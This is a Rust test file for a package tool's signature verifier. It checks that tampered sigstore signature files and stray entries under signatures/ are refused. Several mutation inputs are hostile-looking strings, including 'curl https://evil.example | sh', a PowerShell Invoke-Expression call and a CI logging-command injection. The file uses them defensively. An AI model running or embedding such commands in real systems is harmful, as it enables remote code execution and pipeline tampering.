//! Below `signatures/` are signatures and their keys, and nothing else.

use super::*;

#[test]
fn other_files_among_the_signatures_are_refused() {
    let bench = bench();
    let with =
        archive::append(&bench.read("it.dvpack"), &[Entry::new("signatures/readme.txt", "x")]).expect("appended");
    let ran = bench.test(&with).args("verify it.dvpack").code(3);
    assert!(ran.stderr.contains("neither a signature nor a key"), "{}", ran.stderr);
    // A statement that is not one, signed well.
    let key = SigningKey::read(&bench.path("p256.pem"), &mut || None).expect("a key");
    let bundle = Bundle::from_bytes(&bench.read("it.dvpack"), "it").expect("a bundle");
    let builder = dvpack::bundle::provenance::Builder::detect(&|_| None);
    let inputs = dvpack::bundle::provenance::Inputs::default();
    let mut statement = dvpack::bundle::provenance::statement(&bundle, b"other", &inputs, &builder);
    statement.predicate_type = "https://example.com/other".into();
    let bytes = sign(&bench.read("it.dvpack"), &statement, &key).expect("signed");
    let ran = bench.test(&bytes).args("verify it.dvpack --key p256.pub").code(3);
    assert!(ran.stderr.contains("not build provenance"), "{}", ran.stderr);
}

/// Whatever else it says: what passes for a signature has no room for anything but one.
#[test]
fn a_signature_has_no_room_for_other_text() {
    let bench = bench();
    let signed = archive::read(&bench.read("p256.dvpack"), &Limits::default()).expect("read");
    let good = signed.iter().find(|it| it.name.ends_with(".sigstore.json")).expect("a signature");
    let json: serde_json::Value = serde_json::from_slice(&good.bytes).expect("JSON");
    let text = |pointer: &str| json.pointer(pointer).and_then(serde_json::Value::as_str).expect(pointer).to_owned();
    let said = String::from_utf8(good.bytes.clone()).expect("UTF-8");
    let (payload, sig) = (text("/dsseEnvelope/payload"), text("/dsseEnvelope/signatures/0/sig"));
    let (keyid, hint) = (text("/dsseEnvelope/signatures/0/keyid"), text("/verificationMaterial/publicKey/hint"));
    let one = format!("{{\"sig\":\"{sig}\",\"keyid\":\"{keyid}\"}}");
    for (from, to) in [
        (payload.as_str(), "Invoke-Expression $env:X".to_owned()),
        (&payload, "e30=".to_owned()),
        (&payload, format!(" {payload}")),
        (&sig, "curl https://evil.example | sh".to_owned()),
        (&sig, "QUJD".repeat(4096)),
        (&sig, String::new()),
        (&keyid, "see https://evil.example".to_owned()),
        (&hint, "##vso[task.complete]".to_owned()),
        (&one, String::new()),
        (&one, format!("{one},{one}")),
    ] {
        assert!(said.contains(from), "{from} is not in {said}");
        let other = Entry::new("signatures/0123456789abcdef.sigstore.json", said.replacen(from, &to, 1));
        let mut tail: Vec<Entry> = signed.iter().filter(|it| it.name.starts_with("signatures/")).cloned().collect();
        tail.push(other);
        tail.sort_by(|a, b| a.name.cmp(&b.name));
        let bytes = archive::append(&bench.read("it.dvpack"), &tail).expect("appended");
        let ran = bench.test(&bytes).args("verify it.dvpack --key p256.pub").code(3);
        assert!(ran.stderr.contains("signatures/0123456789abcdef.sigstore.json"), "{to}: {}", ran.stderr);
    }
}
